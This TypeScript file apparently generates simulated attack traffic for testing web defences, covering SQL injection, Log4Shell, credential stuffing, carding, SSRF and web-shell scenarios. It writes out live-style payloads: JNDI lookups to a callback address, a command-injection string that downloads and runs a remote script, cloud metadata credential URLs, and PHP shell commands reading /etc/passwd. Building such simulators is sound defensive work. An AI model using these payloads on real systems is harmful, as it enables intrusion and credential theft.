import { DAY_MS, HOUR_MS, MINUTE_MS, SECOND_MS } from "#lib/units.ts";
import { JA4, person, tool, zombie } from "../clients.ts";
import { get, post, upload } from "../sites.ts";
import { by } from "../stage.ts";
import { PEOPLE, samplesOf, type Text } from "../texts.ts";
import { hostileText } from "./scanners.ts";
import { ATTACK, type Scene, type Situation, situation } from "./situation.ts";

const SQL = samplesOf("sqli");
const TRAVERSALS = samplesOf("lfi");
const SHELLS = samplesOf("rce");
const SCRIPTS = samplesOf("xss");
const CALLBACK = "203.0.113.77";
const METADATA = [
  "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  "http://169.254.169.254/computeMetadata/v1/",
  "http://metadata.google.internal/computeMetadata/v1/",
  `http://${CALLBACK}:8080/x`,
  "http://127.0.0.1:6379/",
] as const;
const SQLMAP = "sqlmap/1.8.11#stable (https://sqlmap.org)";
const lookup = (host: string): readonly Text[] => [
  `\${jndi:ldap://${host}/a}`,
  `\${\${lower:j}ndi:dns://${host}/a}`,
  `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://${host}/b}`,
];

const swarm = ({ dice }: Scene, count: number, ja4: string = JA4.python) =>
  Array.from({ length: count }, () => zombie(dice, ja4));

/** Sends stolen passwords from many addresses, each with few tries. */
export function stuff(
  scene: Scene,
  addresses: number,
  minutes: number,
  perMinute: number,
  of?: string,
  from = scene.start,
): void {
  const { dice, site, pace, send } = scene;
  const clients = swarm(scene, addresses, JA4.go);
  pace(from, minutes, perMinute, (at) =>
    send(at, by(dice.pick(clients), post(site.login, "password", PEOPLE.password(dice))), of),
  );
}

/** Injects into one page from a few addresses. */
export function inject(
  scene: Scene,
  addresses: number,
  count: number,
  perMinute: number,
  of?: string,
  from = scene.start,
): void {
  const { dice, site, send } = scene;
  const clients = swarm(scene, addresses);
  for (let index = 0, at = from; index < count; index += 1, at += dice.wait(MINUTE_MS / perMinute))
    send(at, by(dice.pick(clients), get(site.search, "q", dice.pick(SQL))), of);
}

/** Reads files through one parameter. */
export function traverse(
  scene: Scene,
  addresses: number,
  count: number,
  perMinute: number,
  of?: string,
  from = scene.start,
): void {
  const { dice, send } = scene;
  const clients = swarm(scene, addresses);
  for (let index = 0, at = from; index < count; index += 1, at += dice.wait(MINUTE_MS / perMinute))
    send(at, by(dice.pick(clients), get("/download", "file", dice.pick(TRAVERSALS))), of);
}

export const ATTACKS: readonly Situation[] = [
  situation("sqlmap", ATTACK, {}, ({ dice, site, start, send }) => {
    const client = tool(dice, SQLMAP, JA4.python, true);
    for (let index = 0, at = start; index < 700; index += 1, at += dice.wait(260))
      send(at, by(client, get(site.search, "q", dice.pick(SQL))));
  }),
  situation("slow-sqlmap", ATTACK, {}, ({ dice, start, send }) => {
    const client = tool(dice, person(dice).ua, JA4.python, true);
    for (let index = 0, at = start; index < 320; index += 1, at += dice.between(5, 14) * SECOND_MS)
      send(at, by(client, post("/contact", "email", dice.pick(SQL))));
  }),
  situation("log4shell", ATTACK, {}, (scene) => {
    const { dice, site, start, pace, send } = scene;
    const clients = swarm(scene, 55, JA4.java);
    pace(start, 40, 12, (at) => {
      const text = dice.pick(lookup(CALLBACK));
      const request = by(dice.pick(clients), get(site.pages(dice), "q", text));
      send(at, dice.chance(0.5) ? request : { ...request, headers: [["X-Api-Version", text]] });
    });
  }),
  situation("credential-stuffing", ATTACK, { hasLimits: true, kinds: ["shop", "portal"] }, (scene) =>
    stuff(scene, 400, 90, 40),
  ),
  situation(
    "stuffing-without-limits",
    ATTACK,
    { hasLimits: false, paranoia: 2, kinds: ["shop", "forum"] },
    (scene) => stuff(scene, 250, 80, 40),
  ),
  situation(
    "one-network-logins",
    ATTACK,
    { hasLimits: true, kinds: ["news", "api"] },
    ({ dice, site, start, pace, send }) => {
      const one = zombie(dice, JA4.python);
      const clients = Array.from({ length: 20 }, (_, index) => ({
        ...one,
        ip: one.ip.replace(/\d+$/, String(20 + index)),
      }));
      pace(start, 30, 60, (at) =>
        send(at, by(dice.pick(clients), post(site.login, "password", PEOPLE.password(dice)))),
      );
    },
  ),
  situation("carding", ATTACK, { kinds: ["shop"], hasLimits: true }, (scene) => {
    const { dice, start, pace, send } = scene;
    const clients = swarm(scene, 35, JA4.node);
    pace(start, 70, 15, (at) =>
      send(
        at,
        by(
          dice.pick(clients),
          post("/checkout/pay", "card", `4${dice.below(1e9)}${dice.below(1e6)}`, "application/json"),
        ),
      ),
    );
  }),
  situation("api-fuzzing", ATTACK, { kinds: ["api"] }, ({ dice, start, pace, send }) => {
    const client = { ...tool(dice, "python-requests/2.32.3", JA4.python), token: dice.hex(32) };
    pace(start, 45, 14, (at) =>
      send(
        at,
        by(
          client,
          post(
            `/v2/${dice.pick(["items", "users"])}/${dice.below(99)}`,
            dice.pick(["id", "name", "sort"]),
            hostileText(dice),
            "application/json",
          ),
        ),
      ),
    );
  }),
  situation("traversal", ATTACK, {}, (scene) => traverse(scene, 1, 260, 15)),
  situation("server-side-requests", ATTACK, { kinds: ["api", "shop"] }, (scene) => {
    const { dice, start, pace, send } = scene;
    const clients = swarm(scene, 2);
    pace(start, 30, 8, (at) => send(at, by(dice.pick(clients), get("/preview", "url", dice.pick(METADATA)))));
  }),
  situation("one-exploit", ATTACK, {}, (scene) => {
    const { dice, start, pace, send } = scene;
    const clients = swarm(scene, 5, JA4.go);
    const text = `;cd /tmp; wget http://${CALLBACK}/m.sh; sh m.sh`;
    pace(start, 40, 6, (at) => send(at, by(dice.pick(clients), post("/cgi-bin/status", "host", text))));
  }),
  situation("low-and-slow", { ...ATTACK, tell: "may" }, {}, (scene) => {
    const { dice, site, start, send } = scene;
    const clients = swarm(scene, 60);
    for (let index = 0; index < 130; index += 1)
      send(start + dice.below(3 * DAY_MS), by(dice.pick(clients), get(site.search, "q", dice.pick(SQL))));
  }),
  situation("web-shell-upload", ATTACK, { kinds: ["news", "portal"] }, ({ dice, start, pace, send }) => {
    const client = tool(dice, person(dice).ua, JA4.python, true);
    pace(start, 20, 6, (at, index) =>
      send(
        at,
        by(
          client,
          index % 3 === 0
            ? upload("/uploads/avatar", `img${dice.below(99)}.php`)
            : post(
                "/uploads/img7.php",
                "c",
                dice.pick([
                  "system('id')",
                  "shell_exec('cat /etc/passwd')",
                  "eval(base64_decode($_POST[x]))",
                ]),
              ),
        ),
      ),
    );
  }),
  situation("script-by-hand", ATTACK, { kinds: ["forum", "shop"] }, ({ dice, start, pace, send }) => {
    const client = person(dice);
    pace(start, 50, 1.5, (at) => send(at, by(client, post("/posts", "raw", dice.pick(SCRIPTS)))));
  }),
  situation("php-botnet", ATTACK, { kinds: ["news", "shop"] }, (scene) => {
    const { dice, start, pace, send } = scene;
    const clients = swarm(scene, 120, JA4.curl);
    const texts = samplesOf("php");
    pace(start, 60, 12, (at) => send(at, by(dice.pick(clients), post("/index.php", "s", dice.pick(texts)))));
  }),
  situation("command-injection", ATTACK, { kinds: ["portal", "api"] }, (scene) => {
    const { dice, start, pace, send } = scene;
    const clients = swarm(scene, 3);
    pace(start, 35, 10, (at) =>
      send(at, by(dice.pick(clients), get("/tools/ping", "host", dice.pick(SHELLS)))),
    );
  }),
  situation("java-exploit", ATTACK, { kinds: ["api", "portal"] }, (scene) => {
    const { dice, start, pace, send } = scene;
    const clients = swarm(scene, 25, JA4.go);
    const texts = samplesOf("java");
    pace(start, 40, 9, (at) =>
      send(at, by(dice.pick(clients), post("/struts/action", "redirect", dice.pick(texts)))),
    );
  }),
  situation("remote-files", ATTACK, { kinds: ["news", "forum"] }, (scene) => {
    const { dice, start, pace, send } = scene;
    const clients = swarm(scene, 14);
    const texts = samplesOf("rfi");
    pace(start, 40, 7, (at) => send(at, by(dice.pick(clients), get("/index.php", "page", dice.pick(texts)))));
  }),
  situation("anonymous-attack", ATTACK, { addresses: "anonymous" }, (scene) => inject(scene, 40, 500, 18)),
  situation("masked-attack", ATTACK, { addresses: "masked" }, (scene) => inject(scene, 25, 400, 15)),
  situation("address-rotation", ATTACK, {}, ({ dice, site, start, pace, send }) =>
    pace(start, 60, 9, (at) => send(at, by(zombie(dice, JA4.go), get(site.search, "q", dice.pick(SQL))))),
  ),
  situation("logged-injection", ATTACK, { mode: "log" }, (scene) => inject(scene, 6, 240, 8)),
  situation("first-day-injection", ATTACK, { isFirstDay: true }, (scene) => inject(scene, 18, 500, 20)),
  situation("template-injection", ATTACK, { kinds: ["news", "portal"], paranoia: 2 }, (scene) => {
    const { dice, start, pace, send } = scene;
    const clients = swarm(scene, 8, JA4.node);
    const texts = samplesOf("node");
    pace(start, HOUR_MS / MINUTE_MS, 5, (at) =>
      send(at, by(dice.pick(clients), post("/profile", "bio", dice.pick(texts)))),
    );
  }),
];
